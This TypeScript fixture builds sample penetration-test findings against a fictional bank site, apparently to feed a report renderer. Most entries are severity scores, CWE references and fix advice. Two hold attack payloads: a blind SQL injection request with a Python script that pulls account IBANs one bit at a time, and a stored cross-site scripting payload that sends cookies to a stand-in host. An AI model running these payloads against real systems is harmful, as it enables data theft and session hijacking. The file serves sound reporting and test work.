import type { ReportFinding } from '../report-model.ts';
import { code, codeBlock, figure, heading, link, list, paragraph, quote, strong, table } from './tree.ts';

type Outline = Pick<ReportFinding, 'title' | 'severity' | 'score' | 'cwe' | 'result'>;

/** A finding with a short text of every kind; `given` says what is different. */
export function finding(index: number, outline: Outline, given: Partial<ReportFinding> = {}): ReportFinding {
  const hosts = ['www', 'api', 'accounts', 'static', 'partner'];
  return {
    reference: `F-${String(index).padStart(2, '0')}`,
    scannerVectors: [],
    cve: [],
    description: [
      paragraph(
        'While working through the application we found that this weakness can be reached by any signed-in customer. It does not depend on the role of the account, and nothing in the logs that we were shown would have told the operators about it.',
      ),
    ],
    impact: [
      paragraph(
        'Someone who uses it learns details of other customers, and can prepare further attacks with them.',
      ),
    ],
    steps: [
      list(
        true,
        [paragraph('Sign in as any customer.')],
        [paragraph('Open ', code('/accounts/overview'), ' and record the request.')],
        [paragraph('Repeat the request with another account number.')],
      ),
    ],
    recommendation: [
      paragraph(
        'Decide on the server, for each request and each object, whether the session may read it. Add a test that asks for a stranger’s object and expects a refusal.',
      ),
    ],
    references: ['https://owasp.example/top10/2021/a01', 'OWASP ASVS 5.0, 8.2.1'],
    instances: Array.from({ length: 1 + (index % 4) }, (_, number) => ({
      target: `https://${hosts[(index + number) % hosts.length]}.aldervale.example/accounts/overview?id=${1000 + index * 7 + number}`,
      detail: number % 2 === 0 ? 'Parameter id' : 'Header X-Account',
      result: outline.result === 'Partially fixed' && number === 0 ? 'Fixed' : outline.result,
    })),
    images: {},
    ...outline,
    ...given,
  };
}

const score = (version: '3.1' | '4.0', value: number, vector: string) => ({ version, score: value, vector });

const injection: Partial<ReportFinding> = {
  scannerVectors: [{ version: '3.1', vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H' }],
  cve: ['CVE-2024-10001'],
  description: [
    paragraph(
      'The search of the statement archive builds its SQL from the ',
      code('filter'),
      ' parameter without binding it. A single quote ends the string, and what follows is executed by the database with the rights of ',
      code('app_owner'),
      ', the owner of ',
      strong('every table of the schema'),
      '.',
    ),
    heading(2, 'Where it comes from'),
    paragraph(
      'The query is assembled in ',
      code('StatementRepository.search'),
      '. The method is called from three endpoints, two of which are reachable before the second factor. Further reading: ',
      link('https://owasp.example/cheatsheets/query-parameterization', 'query parameterization'),
      '.',
    ),
    quote(
      paragraph(
        '“The filter was meant for an internal tool and was opened to customers later.” — note in the code, line 214',
      ),
    ),
    table(
      ['Endpoint', 'Before second factor', 'Rows readable'],
      ['GET /api/statements', 'yes', 'all customers, 1.2 million'],
      ['GET /api/statements/export', 'yes', 'all customers'],
      ['POST /api/archive/search', 'no', 'own company'],
    ),
  ],
  impact: [
    paragraph('An attacker on the Internet, with nothing but a browser:'),
    list(
      false,
      [paragraph('reads the statements of every customer;')],
      [paragraph('changes the payee of standing orders;')],
      [paragraph('reads password hashes, and with them other systems that share accounts.')],
    ),
  ],
  steps: [
    list(true, [
      paragraph(
        'Send the request below. It waits five seconds, although the archive holds no such statement.',
      ),
      codeBlock(
        'http',
        'GET /api/statements?filter=2025%27%20AND%201%3D%28SELECT%201%20FROM%20pg_sleep%285%29%29--&page=1 HTTP/1.1\nHost: www.aldervale.example\nCookie: session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMDAxIiwicm9sZSI6ImN1c3RvbWVyIiwiaWF0IjoxNzYzNjQ4MDAwfQ.c2lnbmF0dXJlLW9mLXRoZS1zYW1wbGU\nAccept: application/json',
      ),
    ]),
    paragraph('The same in a script that reads one row after the other:'),
    codeBlock(
      'python',
      'import requests\n\ndef read(offset: int) -> str:\n    # Blind: one bit for each request\n    payload = f"2025\' AND ascii(substr((SELECT iban FROM accounts LIMIT 1 OFFSET {offset}), 1, 1)) > 64--"\n    answer = requests.get(URL, params={"filter": payload}, timeout=10)\n    return "yes" if answer.elapsed.total_seconds() > 4 else "no"',
    ),
    figure('shot-1', 'The answer of the archive with the names of its tables'),
  ],
  recommendation: [
    paragraph('Bind every value. Let the application connect as a role that owns nothing:'),
    codeBlock(
      'sql',
      'CREATE ROLE app_reader NOLOGIN;\nGRANT SELECT ON statements TO app_reader; -- nothing else\nSELECT * FROM statements WHERE year = $1 AND owner = $2;',
    ),
    paragraph('Until then, switch the export off: it has the same fault and returns more rows.'),
  ],
  images: {
    'shot-1': { id: 'shot-1', alt: 'A terminal that lists table names', widthPx: 1280, heightPx: 720 },
  },
};

export const sampleFindings: readonly ReportFinding[] = [
  finding(
    1,
    {
      title: 'SQL injection in the statement archive',
      severity: 'critical',
      score: score('4.0', 9.3, 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N'),
      cwe: [{ id: 89, name: 'Improper Neutralization of Special Elements used in an SQL Command' }],
      result: 'Open',
    },
    injection,
  ),
  finding(2, {
    title: 'Session tokens survive sign-out and a change of password',
    severity: 'critical',
    score: score('4.0', 9.1, 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N'),
    cwe: [{ id: 613, name: 'Insufficient Session Expiration' }],
    result: 'Partially fixed',
  }),
  finding(3, {
    title: 'Account overview of any customer readable by changing a number',
    severity: 'high',
    score: score('4.0', 8.7, 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N'),
    cwe: [
      { id: 639, name: 'Authorization Bypass Through User-Controlled Key' },
      { id: 862, name: 'Missing Authorization' },
    ],
    result: 'Fixed',
  }),
  finding(
    4,
    {
      title: 'Stored cross-site scripting in the reference of a payment',
      severity: 'high',
      score: score('3.1', 8.2, 'CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:L/A:N'),
      cwe: [{ id: 79, name: 'Cross-site Scripting' }],
      result: 'Open',
    },
    {
      steps: [
        paragraph('Save a payment with this reference and open the list as its receiver:'),
        codeBlock('html', '<img src=x onerror="fetch(\'https://collect.example/?c=\' + document.cookie)">'),
        figure('shot-2', 'The script runs in the receiver’s session'),
      ],
      images: {
        'shot-2': { id: 'shot-2', alt: 'A browser window with a dialog', widthPx: 900, heightPx: 1400 },
      },
    },
  ),
  finding(5, {
    title: 'Server-side request forgery through the logo address',
    severity: 'high',
    score: score('4.0', 7.8, 'CVSS:4.0/AV:N/AC:L/AT:N/PR:H/UI:N/VC:H/VI:N/VA:N/SC:L/SI:N/SA:N'),
    cwe: [{ id: 918, name: 'Server-Side Request Forgery' }],
    result: 'Open',
  }),
  finding(6, {
    title: 'No limit on attempts at the second factor',
    severity: 'medium',
    score: score('4.0', 6.9, 'CVSS:4.0/AV:N/AC:L/AT:P/PR:L/UI:N/VC:L/VI:L/VA:N/SC:N/SI:N/SA:N'),
    cwe: [{ id: 307, name: 'Improper Restriction of Excessive Authentication Attempts' }],
    result: 'Not retested',
  }),
  finding(
    7,
    {
      title: 'TLS 1.0 still offered by the partner gateway',
      severity: 'medium',
      score: score('3.1', 5.9, 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:N'),
      cwe: [{ id: 327, name: 'Use of a Broken or Risky Cryptographic Algorithm' }],
      result: 'Open',
    },
    {
      instances: Array.from({ length: 64 }, (_, host) => ({
        target: `192.0.2.${host + 1}:443/tcp`,
        detail: host % 3 === 0 ? 'TLS_RSA_WITH_AES_128_CBC_SHA' : '',
        result: host % 5 === 0 ? 'Fixed' : 'Open',
      })),
    },
  ),
  finding(8, {
    title: 'Verbose errors name files, classes and the version of the database',
    severity: 'medium',
    score: score('3.1', 5.3, 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N'),
    cwe: [{ id: 209, name: 'Generation of Error Message Containing Sensitive Information' }],
    result: 'Fixed',
  }),
  finding(9, {
    title: 'Missing protection against framing',
    severity: 'medium',
    score: null,
    cwe: [{ id: 1021, name: 'Improper Restriction of Rendered UI Layers or Frames' }],
    result: 'Open',
  }),
  finding(10, {
    title: 'Cookies without the Secure attribute on the static host',
    severity: 'low',
    score: score('3.1', 3.1, 'CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N'),
    cwe: [{ id: 614, name: 'Sensitive Cookie Without Secure Attribute' }],
    result: 'Open',
  }),
  finding(11, {
    title: 'User names can be told apart by the time an answer takes',
    severity: 'low',
    score: score('3.1', 3.7, 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:N/A:N'),
    cwe: [{ id: 208, name: 'Observable Timing Discrepancy' }],
    result: 'Withdrawn',
  }),
  finding(12, {
    title: 'Outdated copy of a date library',
    severity: 'low',
    score: null,
    cwe: [],
    result: 'Open',
  }),
  finding(
    13,
    { title: 'No security.txt', severity: 'info', score: null, cwe: [], result: 'Open' },
    { impact: [], steps: [], instances: [] },
  ),
  finding(
    14,
    {
      title: 'Comments in the pages name the developers',
      severity: 'info',
      score: null,
      cwe: [],
      result: 'Open',
    },
    { steps: [], references: [] },
  ),
];
